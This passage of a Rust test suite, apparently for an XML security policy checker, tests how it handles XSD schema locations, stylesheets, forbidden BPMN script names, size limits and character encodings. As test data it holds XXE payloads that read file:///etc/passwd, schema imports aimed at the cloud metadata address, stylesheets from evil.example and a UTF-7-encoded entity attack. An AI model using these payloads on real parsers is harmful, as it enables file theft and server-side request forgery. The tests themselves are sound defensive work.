/// An XSD document whose `loader` element (`import`, `include`, ...) names
/// `location`, with the XSD namespace bound to `prefix` ("" for the default).
fn xsd_doc(prefix: &str, loader: &str, location: &str) -> String {
    let (decl, p) = if prefix.is_empty() {
        ("xmlns".to_owned(), String::new())
    } else {
        (format!("xmlns:{prefix}"), format!("{prefix}:"))
    };
    let namespace = if loader == "import" {
        " namespace=\"urn:other\""
    } else {
        ""
    };
    format!(
        "<{p}schema {decl}=\"{XSD_NS}\" targetNamespace=\"urn:r\"><{p}{loader}{namespace} schemaLocation=\"{location}\"/><{p}element name=\"r\"/></{p}schema>"
    )
}

#[test]
fn xsd_schema_locations_follow_the_policy() {
    let mut by_default = Vec::new();
    let mut any = Vec::new();
    let mut none = Vec::new();
    for loader in ["import", "include", "redefine", "override"] {
        for prefix in ["xs", "xsd", "s", ""] {
            for (locations, expected) in [
                (PUBLIC_SCHEMA_LOCATIONS, OK),
                (PRIVATE_SCHEMA_LOCATIONS, SCHEMA),
            ] {
                for &location in locations {
                    let name = format!("{prefix}:{loader} {location}");
                    let doc = xsd_doc(prefix, loader, location);
                    by_default.push((name.clone(), doc.clone(), expected));
                    any.push((name.clone(), doc.clone(), OK));
                    none.push((name, doc, SCHEMA));
                }
            }
        }
    }
    check(&XmlPolicy::default(), &by_default);
    check(&camunda(), &by_default);
    check(&policy(|p| p.schema_locations = SchemaLocations::Any), &any);
    check(
        &policy(|p| p.schema_locations = SchemaLocations::None),
        &none,
    );
    let v = inspect(
        &XmlPolicy::default(),
        xsd_doc("xs", "include", "file:///etc/x.xsd").as_bytes(),
        None,
    )
    .unwrap_err();
    assert_eq!(v.location(), "/schema/include/@schemaLocation", "{v}");
}

#[test]
fn xsd_schema_locations_are_read_by_namespace() {
    let xs = format!("xmlns:xs=\"{XSD_NS}\"");
    check(
        &XmlPolicy::default(),
        &[
            (
                "inside a WSDL",
                format!("<wsdl:definitions xmlns:wsdl=\"http://schemas.xmlsoap.org/wsdl/\"><wsdl:types><xs:schema {xs}><xs:import namespace=\"urn:x\" schemaLocation=\"http://169.254.169.254/x.xsd\"/></xs:schema></wsdl:types></wsdl:definitions>"),
                SCHEMA,
            ),
            (
                "namespace declared on the element itself",
                "<r><i:include xmlns:i=\"http://www.w3.org/2001/XMLSchema\" schemaLocation=\"file:///etc/passwd\"/></r>".into(),
                SCHEMA,
            ),
            (
                "scheme by character reference",
                format!("<xs:schema {xs}><xs:include schemaLocation=\"&#102;ile:///etc/x.xsd\"/></xs:schema>"),
                SCHEMA,
            ),
            (
                "two locations",
                format!("<xs:schema {xs}><xs:include schemaLocation=\"a.xsd b.xsd\"/></xs:schema>"),
                SCHEMA,
            ),
            (
                "empty location",
                format!("<xs:schema {xs}><xs:include schemaLocation=\"\"/></xs:schema>"),
                SCHEMA,
            ),
            (
                "white space around",
                format!("<xs:schema {xs}><xs:include schemaLocation=\"\n  http://example.com/a.xsd\t\"/></xs:schema>"),
                OK,
            ),
            // Near misses.
            (
                "import without schemaLocation",
                format!("<xs:schema {xs}><xs:import namespace=\"http://www.w3.org/XML/1998/namespace\"/></xs:schema>"),
                OK,
            ),
            (
                "schemaLocation on an element of another namespace",
                "<r xmlns:xs=\"urn:not-xsd\"><xs:import schemaLocation=\"file:///etc/passwd\"/><include schemaLocation=\"file:///etc/passwd\"/></r>".into(),
                OK,
            ),
            (
                "schemaLocation on another XSD element",
                format!("<xs:schema {xs}><xs:element name=\"r\" schemaLocation=\"file:///etc/passwd\"/></xs:schema>"),
                OK,
            ),
            (
                "a prefixed schemaLocation is another attribute",
                format!("<xs:schema {xs}><xs:include xs:schemaLocation=\"file:///etc/passwd\"/></xs:schema>"),
                OK,
            ),
            (
                "default namespace undeclared",
                format!("<schema xmlns=\"{XSD_NS}\"><annotation><appinfo><import xmlns=\"\" schemaLocation=\"file:///etc/passwd\"/></appinfo></annotation></schema>"),
                OK,
            ),
            (
                "the XSD instance namespace is not XSD",
                "<i:include xmlns:i=\"http://www.w3.org/2001/XMLSchema-instance\" schemaLocation=\"file:///etc/passwd\"/>".into(),
                OK,
            ),
        ],
    );
}

// ---------------------------------------------------------------- stylesheets

#[test]
fn absolute_stylesheets_follow_the_policy() {
    let absolute = [
        (
            "http",
            "<?xml-stylesheet type=\"text/xsl\" href=\"http://evil.example/x.xsl\"?><r/>",
        ),
        (
            "https",
            "<?xml-stylesheet href=\"https://evil.example/x.xsl\" type=\"text/xsl\"?><r/>",
        ),
        ("file", "<?xml-stylesheet href='file:///etc/x.xsl'?><r/>"),
        (
            "jar",
            "<?xml-stylesheet href='jar:http://evil.example/x.jar!/x.xsl'?><r/>",
        ),
        (
            "network path",
            "<?xml-stylesheet href='//evil.example/x.xsl'?><r/>",
        ),
        (
            "leading white space",
            "<?xml-stylesheet href='  http://evil.example/x.xsl'?><r/>",
        ),
        (
            "character reference",
            "<?xml-stylesheet href='&#104;ttp://evil.example/x.xsl'?><r/>",
        ),
        (
            "tab before href",
            "<?xml-stylesheet\thref=\"http://evil.example/x.xsl\"?><r/>",
        ),
        (
            "after the declaration",
            "<?xml version=\"1.0\"?>\n<?xml-stylesheet href=\"http://e.example/x.xsl\"?>\n<r/>",
        ),
        (
            "inside the root",
            "<r><?xml-stylesheet href=\"http://evil.example/x.xsl\"?></r>",
        ),
        (
            "unquoted href",
            "<?xml-stylesheet href=http://evil.example/x.xsl?><r/>",
        ),
    ];
    let rejected_by_default: Vec<_> = absolute.iter().map(|&(n, d)| (n, d, STYLESHEET)).collect();
    check(&XmlPolicy::default(), &rejected_by_default);
    let allowed: Vec<_> = absolute.iter().map(|&(n, d)| (n, d, OK)).collect();
    check(&policy(|p| p.allow_absolute_stylesheets = true), &allowed);

    check(
        &XmlPolicy::default(),
        &[
            (
                "relative",
                "<?xml-stylesheet type=\"text/xsl\" href=\"style.xsl\"?><r/>",
                OK,
            ),
            (
                "relative path",
                "<?xml-stylesheet href=\"xsl/style.xsl\" type=\"text/xsl\" ?><r/>",
                OK,
            ),
            // A path-absolute reference is still relative to the document.
            (
                "root relative",
                "<?xml-stylesheet href=\"/styles/style.css\" type=\"text/css\"?><r/>",
                OK,
            ),
            (
                "fragment",
                "<?xml-stylesheet alternate=\"yes\" title=\"x\" href=\"#style\"?><r/>",
                OK,
            ),
            (
                "other PI with an absolute href",
                "<?xml-model href=\"http://example.com/x.rng\"?><r/>",
                OK,
            ),
            (
                "similar PI target",
                "<?xml-stylesheets href=\"http://example.com/x.xsl\"?><r/>",
                OK,
            ),
            (
                "a URL in another pseudo-attribute",
                "<?xml-stylesheet title=\"http://e.example/\" href=\"a.xsl\"?><r/>",
                OK,
            ),
        ],
    );
    let v = rejected(&XmlPolicy::default(), absolute[8].1.as_bytes(), STYLESHEET);
    assert_eq!((v.location(), v.offset()), ("/", Some(22)), "{v}");
}

// ---------------------------------------------------------------- forbidden names

#[test]
fn forbidden_elements_and_attributes() {
    let forbidding = policy(|p| {
        p.forbid_elements = vec![
            xml_name(&format!("{{{BPMN_NS}}}scriptTask")),
            xml_name("script"),
        ];
        p.forbid_attributes = vec![
            attribute_rule(&format!("{{{CAMUNDA_NS}}}resource")),
            attribute_rule("scriptFormat"),
            attribute_rule(&format!("{{{BPMN_NS}}}conditionExpression@language")),
        ];
    });
    let defs = |body: &str| {
        format!(
            "<bpmn:definitions xmlns:bpmn=\"{BPMN_NS}\" xmlns:camunda=\"{CAMUNDA_NS}\"><bpmn:process id=\"p\">{body}</bpmn:process></bpmn:definitions>"
        )
    };
    let cases = [
        (
            "prefixed element",
            defs("<bpmn:scriptTask id=\"s\"/>"),
            FORBIDDEN_ELEMENT,
        ),
        (
            "element in the default namespace",
            format!(
                "<definitions xmlns=\"{BPMN_NS}\"><process><scriptTask/></process></definitions>"
            ),
            FORBIDDEN_ELEMENT,
        ),
        (
            "element with another prefix",
            format!("<b:scriptTask xmlns:b=\"{BPMN_NS}\"/>"),
            FORBIDDEN_ELEMENT,
        ),
        (
            "unqualified element",
            "<html><script>alert(1)</script></html>".into(),
            FORBIDDEN_ELEMENT,
        ),
        (
            "qualified attribute",
            defs("<bpmn:serviceTask camunda:resource=\"x.groovy\"/>"),
            FORBIDDEN_ATTRIBUTE,
        ),
        (
            "qualified attribute, another prefix",
            defs(&format!(
                "<bpmn:serviceTask xmlns:c=\"{CAMUNDA_NS}\" c:resource=\"x\"/>"
            )),
            FORBIDDEN_ATTRIBUTE,
        ),
        (
            "unqualified attribute",
            defs("<bpmn:userTask scriptFormat=\"groovy\"/>"),
            FORBIDDEN_ATTRIBUTE,
        ),
        (
            "unqualified attribute on the root",
            "<r scriptFormat=\"js\"/>".into(),
            FORBIDDEN_ATTRIBUTE,
        ),
        // Near misses.
        (
            "one local name, another namespace",
            "<r xmlns:x=\"urn:other\"><x:scriptTask/></r>".into(),
            OK,
        ),
        (
            "one local name, no namespace",
            "<process><scriptTask/></process>".into(),
            OK,
        ),
        (
            "script in a namespace",
            "<html xmlns=\"http://www.w3.org/1999/xhtml\"><script/></html>".into(),
            OK,
        ),
        (
            "attribute prefixed",
            defs("<bpmn:userTask camunda:scriptFormat=\"groovy\"/>"),
            OK,
        ),
        (
            "attribute unprefixed",
            defs("<bpmn:userTask resource=\"x\"/>"),
            OK,
        ),
        (
            "attribute in another namespace",
            "<r xmlns:x=\"urn:other\" x:resource=\"x\"/>".into(),
            OK,
        ),
        (
            "the names as text",
            defs("<bpmn:documentation>scriptTask scriptFormat</bpmn:documentation>"),
            OK,
        ),
        (
            "other BPMN",
            defs("<bpmn:serviceTask camunda:class=\"com.acme.Pay\"/><bpmn:task/>"),
            OK,
        ),
        (
            "scoped attribute on its element",
            defs(
                "<bpmn:sequenceFlow id=\"f\"><bpmn:conditionExpression language=\"groovy\">x</bpmn:conditionExpression></bpmn:sequenceFlow>",
            ),
            FORBIDDEN_ATTRIBUTE,
        ),
        (
            "scoped attribute on another element",
            "<book language=\"en\"><title language=\"de\">T</title></book>".into(),
            OK,
        ),
        (
            "scoped attribute on the same local name in another namespace",
            "<conditionExpression language=\"groovy\"/>".into(),
            OK,
        ),
    ];
    check(&forbidding, &cases);
    // Nothing is forbidden by default.
    let passing: Vec<_> = cases.iter().map(|(n, d, _)| (n, d, OK)).collect();
    check(&XmlPolicy::default(), &passing);
}

// ---------------------------------------------------------------- limits

/// Small limits, so that "at the limit" and "one over" are cheap to write.
fn small_limits() -> XmlPolicy {
    policy(|p| {
        p.max_depth = 5;
        p.max_attributes = 3;
        p.max_name_length = 8;
        p.max_value_bytes = 10;
        p.max_elements = 6;
        p.max_namespace_declarations = 2;
    })
}

#[test]
fn small_limits_at_and_one_over() {
    check(
        &small_limits(),
        &[
            ("depth 5", nested(5).as_str(), OK),
            ("depth 6", nested(6).as_str(), TOO_DEEP),
            (
                "depth 6, empty element",
                "<a><a><a><a><a><a/></a></a></a></a></a>",
                TOO_DEEP,
            ),
            ("depth 5, wide", "<a><a><a><a><a/><a/></a></a></a></a>", OK),
            ("3 attributes", "<r a=\"1\" b=\"2\" c=\"3\"/>", OK),
            (
                "4 attributes",
                "<r a=\"1\" b=\"2\" c=\"3\" d=\"4\"/>",
                TOO_MANY_ATTRIBUTES,
            ),
            // Decision (from the code): namespace declarations are attributes.
            (
                "3 attributes and an xmlns",
                "<r xmlns:p=\"u\" a=\"1\" b=\"2\" c=\"3\"/>",
                TOO_MANY_ATTRIBUTES,
            ),
            (
                "3 attributes on two elements",
                "<r a=\"1\" b=\"2\" c=\"3\"><s a=\"1\" b=\"2\" c=\"3\"/></r>",
                OK,
            ),
            ("element name of 8", "<abcdefgh/>", OK),
            ("element name of 9", "<abcdefghi/>", NAME_TOO_LONG),
            (
                "prefixed element name of 8",
                "<p:abcdef xmlns:p=\"u\"/>",
                OK,
            ),
            (
                "prefixed element name of 9",
                "<p:abcdefg xmlns:p=\"u\"/>",
                NAME_TOO_LONG,
            ),
            (
                "nested element name of 9",
                "<r><abcdefghi></abcdefghi></r>",
                NAME_TOO_LONG,
            ),
            ("attribute name of 8", "<r abcdefgh=\"\"/>", OK),
            ("attribute name of 9", "<r abcdefghi=\"\"/>", NAME_TOO_LONG),
            ("xmlns name of 9", "<r xmlns:abc=\"u\"/>", NAME_TOO_LONG),
            ("text of 10", "<r>0123456789</r>", OK),
            ("text of 11", "<r>0123456789A</r>", VALUE_TOO_LARGE),
            ("text of 10 bytes, 5 characters", "<r>ééééé</r>", OK),
            (
                "text of 11 bytes, 6 characters",
                "<r>éééééA</r>",
                VALUE_TOO_LARGE,
            ),
            // A reference does not end the text node: 10 bytes of text and
            // a reference are over the limit however references are counted.
            ("text and a reference, 10", "<r>0123&amp;5</r>", OK),
            (
                "text then a reference, over",
                "<r>0123456789&amp;</r>",
                VALUE_TOO_LARGE,
            ),
            (
                "a reference then text, over",
                "<r>&#65;0123456789</r>",
                VALUE_TOO_LARGE,
            ),
            (
                "text around a reference, over",
                "<r>01234&lt;56789</r>",
                VALUE_TOO_LARGE,
            ),
            (
                "11 references",
                "<r>&lt;&lt;&lt;&lt;&lt;&lt;&lt;&lt;&lt;&lt;&lt;</r>",
                VALUE_TOO_LARGE,
            ),
            // Decision (from the code): sizes are bytes as written, references
            // unresolved, as for attribute values (3 characters, 12 bytes).
            (
                "3 references of 12 bytes",
                "<r>&lt;&lt;&lt;</r>",
                VALUE_TOO_LARGE,
            ),
            (
                "attribute of 3 references",
                "<r a=\"&lt;&lt;&lt;\"/>",
                VALUE_TOO_LARGE,
            ),
            (
                "text around CDATA, 11",
                "<r>0123<![CDATA[4567]]>89A</r>",
                VALUE_TOO_LARGE,
            ),
            (
                "CDATA of 11",
                "<r><![CDATA[0123456789A]]></r>",
                VALUE_TOO_LARGE,
            ),
            (
                "two text nodes of 10",
                "<r>0123456789<b/>0123456789</r>",
                OK,
            ),
            (
                "three text nodes of 10",
                "<r>0123456789<b>0123456789</b>0123456789</r>",
                OK,
            ),
            ("attribute value of 10", "<r a=\"0123456789\"/>", OK),
            (
                "attribute value of 11",
                "<r a=\"0123456789A\"/>",
                VALUE_TOO_LARGE,
            ),
            ("6 elements", "<r><a/><a/><a><b/></a><a/></r>", OK),
            (
                "7 elements",
                "<r><a/><a/><a><b/></a><a/><a/></r>",
                TOO_MANY_ELEMENTS,
            ),
            (
                "2 namespace declarations",
                "<r xmlns=\"u\" xmlns:p=\"v\"/>",
                OK,
            ),
            (
                "3 namespace declarations",
                "<r xmlns=\"u\" xmlns:p=\"v\" xmlns:q=\"w\"/>",
                TOO_MANY_NAMESPACES,
            ),
            (
                "2 declarations on two elements",
                "<r xmlns:p=\"u\" xmlns:q=\"v\"><s xmlns:p=\"u\" xmlns:q=\"v\"/></r>",
                OK,
            ),
        ],
    );
}

#[test]
fn default_limits_at_and_one_over() {
    let defaults = XmlPolicy::default();
    let limits = (
        defaults.max_depth,
        defaults.max_attributes,
        defaults.max_name_length,
        defaults.max_value_bytes,
        defaults.max_elements,
        defaults.max_namespace_declarations,
    );
    assert_eq!(limits, (256, 256, 1000, 1 << 20, 1_000_000, 64));
    let mib = 1 << 20;
    let name = |n: usize| "n".repeat(n);
    let x = |n: usize| "x".repeat(n);
    check(
        &defaults,
        &[
            ("depth 256", nested(256), OK),
            ("depth 257", nested(257), TOO_DEEP),
            ("256 attributes", with_attributes(256), OK),
            ("257 attributes", with_attributes(257), TOO_MANY_ATTRIBUTES),
            (
                "element name of 1000",
                format!("<{0}></{0}>", name(1000)),
                OK,
            ),
            (
                "element name of 1001",
                format!("<{0}></{0}>", name(1001)),
                NAME_TOO_LONG,
            ),
            (
                "attribute name of 1000",
                format!("<r {}=\"\"/>", name(1000)),
                OK,
            ),
            (
                "attribute name of 1001",
                format!("<r {}=\"\"/>", name(1001)),
                NAME_TOO_LONG,
            ),
            ("text of 1 MiB", format!("<r>{}</r>", x(mib)), OK),
            (
                "text of 1 MiB + 1",
                format!("<r>{}</r>", x(mib + 1)),
                VALUE_TOO_LARGE,
            ),
            (
                "text of 1 MiB and a reference",
                format!("<r>{}&amp;</r>", x(mib)),
                VALUE_TOO_LARGE,
            ),
            (
                "attribute value of 1 MiB",
                format!("<r a=\"{}\"/>", x(mib)),
                OK,
            ),
            (
                "attribute value of 1 MiB + 1",
                format!("<r a=\"{}\"/>", x(mib + 1)),
                VALUE_TOO_LARGE,
            ),
            ("64 namespace declarations", with_namespaces(64), OK),
            (
                "65 namespace declarations",
                with_namespaces(65),
                TOO_MANY_NAMESPACES,
            ),
        ],
    );
    // The element count, with a limit that keeps the test fast.
    let elements = |n: usize| format!("<r>{}</r>", "<a/>".repeat(n - 1));
    check(
        &policy(|p| p.max_elements = 1000),
        &[
            ("1000 elements", elements(1000), OK),
            ("1001 elements", elements(1001), TOO_MANY_ELEMENTS),
        ],
    );
}

#[test]
fn limits_report_where_they_were_crossed() {
    let small = small_limits();
    // The element that would be one too deep or too many, at its `<`,
    // located in its parent.
    rejected_at(&small, &nested(6), TOO_DEEP, "/a/a/a/a/a", 15);
    rejected_at(
        &small,
        "<r><a/><a/><a><b/></a><a/><a/></r>",
        TOO_MANY_ELEMENTS,
        "/r",
        26,
    );
    rejected_at(&small, "<r><abcdefghi/></r>", NAME_TOO_LONG, "/r", 3);
    // The attribute past the limit.
    rejected_at(
        &small,
        "<r a=\"1\" b=\"2\" c=\"3\" d=\"4\"/>",
        TOO_MANY_ATTRIBUTES,
        "/r",
        21,
    );
    rejected_at(
        &small,
        "<r xmlns=\"u\" xmlns:p=\"v\" xmlns:q=\"w\"/>",
        TOO_MANY_NAMESPACES,
        "/r",
        25,
    );
    // The text node.
    rejected_at(
        &small,
        "<r><s>0123456789A</s></r>",
        VALUE_TOO_LARGE,
        "/r/s",
        6,
    );
}

#[test]
fn huge_documents_stop_at_the_limit() {
    // 4 MiB of nested `<a>`: rejected where depth 257 starts, at byte 768,
    // not at the end of the input (where it would be "unclosed").
    let huge = "<a>".repeat((4 << 20) / 3);
    let v = rejected(&XmlPolicy::default(), huge.as_bytes(), TOO_DEEP);
    assert_eq!(v.offset(), Some(256 * 3), "{v}");
    let v = rejected(&policy(|p| p.max_depth = 1000), huge.as_bytes(), TOO_DEEP);
    assert_eq!(v.offset(), Some(1000 * 3), "{v}");
    // 4 MiB of siblings: stopped at the element past the limit.
    let wide = format!("<r>{}", "<a/>".repeat(1 << 20));
    let v = rejected(
        &policy(|p| p.max_elements = 100),
        wide.as_bytes(),
        TOO_MANY_ELEMENTS,
    );
    assert_eq!(v.offset(), Some(3 + 99 * 4), "{v}");
}

// ---------------------------------------------------------------- encodings

#[test]
fn utf8_and_utf16_are_read() {
    let benign = "<r a=\"é\">Grüße 😀 &amp; &#x20AC;</r>";
    let benign16 = format!("{DECL16}\n{benign}");
    let no_encoding = format!("<?xml version=\"1.0\"?>{benign}");
    let bom8 = |rest: &[u8]| [b"\xEF\xBB\xBF", rest].concat();
    let mut cases: Vec<(String, Vec<u8>, Option<&str>, &str)> = vec![
        ("UTF-8".into(), benign.into(), None, OK),
        ("UTF-8, BOM".into(), bom8(benign.as_bytes()), None, OK),
        (
            "UTF-8, BOM, declaration".into(),
            bom8(format!("<?xml version='1.0' encoding='UTF-8'?>{benign}").as_bytes()),
            None,
            OK,
        ),
        ("UTF-8, charset".into(), benign.into(), Some("utf-8"), OK),
        (
            "UTF-8, charset in capitals".into(),
            benign.into(),
            Some("UTF-8"),
            OK,
        ),
        (
            "US-ASCII declared".into(),
            b"<?xml version=\"1.0\" encoding=\"US-ASCII\"?><r>&#xE9;</r>".to_vec(),
            None,
            OK,
        ),
        (
            "US-ASCII charset".into(),
            b"<r>plain</r>".to_vec(),
            Some("us-ascii"),
            OK,
        ),
        (
            "UTF-16 charset, BOM".into(),
            utf16(benign, true, true),
            Some("utf-16"),
            OK,
        ),
        (
            "UTF-16LE charset, BOM".into(),
            utf16(benign, true, true),
            Some("UTF-16LE"),
            OK,
        ),
        (
            "UTF-16BE charset, no BOM".into(),
            utf16(&benign16, false, false),
            Some("utf-16be"),
            OK,
        ),
    ];
    for le in [true, false] {
        let e = if le { "LE" } else { "BE" };
        cases.push((
            format!("UTF-16{e}, BOM, declaration"),
            utf16(&benign16, le, true),
            None,
            OK,
        ));
        cases.push((
            format!("UTF-16{e}, BOM only"),
            utf16(benign, le, true),
            None,
            OK,
        ));
        cases.push((
            format!("UTF-16{e}, no BOM"),
            utf16(&benign16, le, false),
            None,
            OK,
        ));
        cases.push((
            format!("UTF-16{e}, no BOM, no encoding"),
            utf16(&no_encoding, le, false),
            None,
            OK,
        ));
    }
    check_bytes(&XmlPolicy::default(), &cases);
}

#[test]
fn utf16_is_inspected_like_utf8() {
    let doctype = "<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>";
    let with_decl = format!("{DECL16}{doctype}");
    let xinclude = format!("<r xmlns:xi=\"{XI}\"><xi:include href=\"/etc/passwd\"/></r>");
    let xslt = "<x:stylesheet xmlns:x=\"http://www.w3.org/1999/XSL/Transform\"/>";
    let mut cases: Vec<(String, Vec<u8>, Option<&str>, &str)> = Vec::new();
    for le in [true, false] {
        let e = if le { "LE" } else { "BE" };
        let lone_surrogate = if le { [0x00, 0xD8] } else { [0xD8, 0x00] };
        let mut case = |name: &str, bytes: Vec<u8>, charset, expected| {
            cases.push((format!("UTF-16{e}, {name}"), bytes, charset, expected));
        };
        case("BOM, DOCTYPE", utf16(doctype, le, true), None, DOCTYPE);
        case(
            "BOM, declaration, DOCTYPE",
            utf16(&with_decl, le, true),
            None,
            DOCTYPE,
        );
        case(
            "no BOM, declaration, DOCTYPE",
            utf16(&with_decl, le, false),
            None,
            DOCTYPE,
        );
        case(
            "charset, DOCTYPE",
            utf16(doctype, le, true),
            Some("utf-16"),
            DOCTYPE,
        );
        case(
            "DOCTYPE after the root",
            utf16("<r/><!doctype r>", le, true),
            None,
            DOCTYPE,
        );
        case("entity", utf16("<r>&xxe;</r>", le, true), None, ENTITY);
        case(
            "entity in an attribute",
            utf16("<r a='&xxe;'/>", le, true),
            None,
            ENTITY,
        );
        case("XInclude", utf16(&xinclude, le, true), None, XINCLUDE);
        case("XSLT", utf16(xslt, le, true), None, XSLT);
        case("two roots", utf16("<a/><b/>", le, true), None, MALFORMED);
        let unpaired = [
            utf16("<r>", le, true),
            lone_surrogate.to_vec(),
            utf16("</r>", le, false),
        ]
        .concat();
        case("unpaired surrogate", unpaired, None, MALFORMED);
        case(
            "odd length",
            [utf16("<r/>", le, true), vec![0x20]].concat(),
            None,
            MALFORMED,
        );
        // No BOM and no `<?`: XML 1.0 appendix F and Java read these bytes
        // as UTF-8, where the NULs are not allowed.
        case(
            "no BOM, no declaration, DOCTYPE",
            utf16(doctype, le, false),
            None,
            MALFORMED,
        );
    }
    check_bytes(&XmlPolicy::default(), &cases);
}

#[test]
fn unsupported_encodings_are_rejected() {
    let doctype = "<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>";
    let decl = |encoding: &str| format!("<?xml version=\"1.0\" encoding=\"{encoding}\"?>");
    let utf7 = format!(
        "{}+ADw-!DOCTYPE r +AFs-+ADw-!ENTITY x SYSTEM +ACI-file:///etc/passwd+ACI-+AD4-+AF0-+AD4-+ADw-r+AD4-+ACY-x;+ADw-/r+AD4-",
        decl("UTF-7")
    );
    let declared = |encoding: &str, body: &[u8]| [decl(encoding).as_bytes(), body].concat();
    check_bytes(
        &XmlPolicy::default(),
        &[
            (
                "UTF-32LE, BOM",
                utf32(doctype, true, true),
                None,
                UNSUPPORTED,
            ),
            (
                "UTF-32BE, BOM",
                utf32(doctype, false, true),
                None,
                UNSUPPORTED,
            ),
            (
                "UTF-32LE pattern",
                utf32(doctype, true, false),
                None,
                UNSUPPORTED,
            ),
            (
                "UTF-32BE pattern",
                utf32(doctype, false, false),
                None,
                UNSUPPORTED,
            ),
            (
                "UTF-32LE, declaration",
                utf32(&format!("{}{doctype}", decl("UTF-32")), true, false),
                None,
                UNSUPPORTED,
            ),
            (
                "UTF-32 declared on UTF-8",
                declared("UTF-32", b"<r/>"),
                None,
                UNSUPPORTED,
            ),
            ("UTF-7 declared", utf7.into_bytes(), None, UNSUPPORTED),
            (
                "UTF-7 charset",
                b"+ADw-r/+AD4-".to_vec(),
                Some("utf-7"),
                UNSUPPORTED,
            ),
            (
                "EBCDIC",
                ebcdic(&format!("{}{doctype}", decl("IBM037"))),
                None,
                UNSUPPORTED,
            ),
            (
                "EBCDIC declared on ASCII",
                declared("IBM037", b"<r/>"),
                None,
                UNSUPPORTED,
            ),
            (
                "ISO-8859-1, not listed",
                declared("ISO-8859-1", b"<r>caf\xE9</r>"),
                None,
                UNSUPPORTED,
            ),
            (
                "windows-1252, not listed",
                declared("windows-1252", b"<r/>"),
                None,
                UNSUPPORTED,
            ),
            (
                "ISO-8859-1 charset, not listed",
                b"<r>caf\xE9</r>".to_vec(),
                Some("iso-8859-1"),
                UNSUPPORTED,
            ),
            (
                "Shift_JIS",
                declared("Shift_JIS", b"<r/>"),
                None,
                UNSUPPORTED,
            ),
            (
                "ISO-2022-JP",
                declared("ISO-2022-JP", b"<r/>"),
                None,
                UNSUPPORTED,
            ),
            (
                "made-up label",
                declared("x-made-up", b"<r/>"),
                None,
                UNSUPPORTED,
            ),
            (
                "made-up charset",
                b"<r/>".to_vec(),
                Some("x-made-up"),
                UNSUPPORTED,
            ),
        ],
    );
}

#[test]
fn listed_legacy_encodings_are_decoded_and_inspected() {
    let legacy = Policy::from_toml("[xml]\nencodings = [\"ISO-8859-1\", \"windows-1252\"]\n")
        .unwrap_or_else(|e| panic!("{e}"))
        .xml;
    assert_eq!(
        legacy.encodings,
        [LegacyEncoding::Latin1, LegacyEncoding::Windows1252]
    );
    let latin1 = |body: &[u8]| {
        [
            &b"<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?>"[..],
            body,
        ]
        .concat()
    };
    check_bytes(
        &legacy,
        &[
            (
                "ISO-8859-1 declared",
                latin1(b"<r a=\"\xE9\">caf\xE9 \xA9</r>"),
                None,
                OK,
            ),
            (
                "windows-1252 declared",
                b"<?xml version='1.0' encoding='windows-1252'?><r>\x80 \x93q\x94</r>".to_vec(),
                None,
                OK,
            ),
            (
                "ISO-8859-1 charset, no declaration",
                b"<r>caf\xE9</r>".to_vec(),
                Some("ISO-8859-1"),
                OK,
            ),
            (
                "charset and declaration agree",
                latin1(b"<r>caf\xE9</r>"),
                Some("latin1"),
                OK,
            ),
            (
                "DOCTYPE",
                latin1(b"<!DOCTYPE r [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><r>&x;\xE9</r>"),
                None,
                DOCTYPE,
            ),
            (
                "DOCTYPE, charset only",
                b"<!DOCTYPE r SYSTEM 'http://e.example/x.dtd'><r/>".to_vec(),
                Some("latin1"),
                DOCTYPE,
            ),
            ("entity", latin1(b"<r>\xE9&xxe;</r>"), None, ENTITY),
            (
                "XInclude",
                latin1(b"<r xmlns:xi='http://www.w3.org/2001/XInclude'><xi:include href='x'/></r>"),
                None,
                XINCLUDE,
            ),
            ("NUL", latin1(b"<r>\x00</r>"), None, MALFORMED),
            (
                "other legacy encodings",
                b"<?xml version=\"1.0\" encoding=\"ISO-8859-5\"?><r/>".to_vec(),
                None,
                UNSUPPORTED,
            ),
            (
                "declaration vs charset",
                latin1(b"<r/>"),
                Some("utf-8"),
                MISMATCH,
            ),
            (
                "UTF-8 BOM vs charset",
                b"\xEF\xBB\xBF<r/>".to_vec(),
                Some("iso-8859-1"),
                MISMATCH,
            ),
            (
                "UTF-8 BOM vs declaration",
                [&b"\xEF\xBB\xBF"[..], &latin1(b"<r/>")].concat(),
                None,
                MISMATCH,
            ),
            (
                "UTF-16 vs declaration",
                utf16(
                    "<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?><r/>",
                    true,
                    true,
                ),
                None,
                MISMATCH,
            ),
        ],
    );
}

#[test]
fn encoding_disagreements_are_rejected() {
    let decl = |encoding: &str| format!("<?xml version=\"1.0\" encoding=\"{encoding}\"?><r/>");
    let bom8 = |rest: &[u8]| [b"\xEF\xBB\xBF", rest].concat();
    check_bytes(
        &XmlPolicy::default(),
        &[
            (
                "UTF-16LE BOM, UTF-8 declared",
                utf16(&decl("UTF-8"), true, true),
                None,
                MISMATCH,
            ),
            (
                "UTF-16BE BOM, UTF-8 declared",
                utf16(&decl("UTF-8"), false, true),
                None,
                MISMATCH,
            ),
            (
                "UTF-16LE pattern, UTF-8 declared",
                utf16(&decl("UTF-8"), true, false),
                None,
                MISMATCH,
            ),
            (
                "UTF-16LE BOM, UTF-16BE declared",
                utf16(&decl("UTF-16BE"), true, true),
                None,
                MISMATCH,
            ),
            (
                "UTF-16LE BOM, US-ASCII declared",
                utf16(&decl("US-ASCII"), true, true),
                None,
                MISMATCH,
            ),
            (
                "UTF-16BE BOM, UTF-16LE charset",
                utf16("<r/>", false, true),
                Some("utf-16le"),
                MISMATCH,
            ),
            (
                "UTF-16LE BOM, UTF-8 charset",
                utf16("<r/>", true, true),
                Some("utf-8"),
                MISMATCH,
            ),
            (
                "UTF-8 BOM, UTF-16 declared",
                bom8(decl("UTF-16").as_bytes()),
                None,
                MISMATCH,
            ),
            (
                "UTF-8 BOM, UTF-16 charset",
                bom8(b"<r/>"),
                Some("utf-16"),
                MISMATCH,
            ),
            (
                "UTF-8 bytes, UTF-16 declared",
                decl("UTF-16").into_bytes(),
                None,
                MISMATCH,
            ),
            (
                "UTF-8 bytes, utf-16le declared",
                decl("utf-16le").into_bytes(),
                None,
                MISMATCH,
            ),
            (
                "UTF-8 bytes, UTF-16 charset",
                b"<r/>".to_vec(),
                Some("utf-16"),
                MISMATCH,
            ),
            (
                "UTF-8 declared, UTF-16 charset",
                decl("UTF-8").into_bytes(),
                Some("UTF-16"),
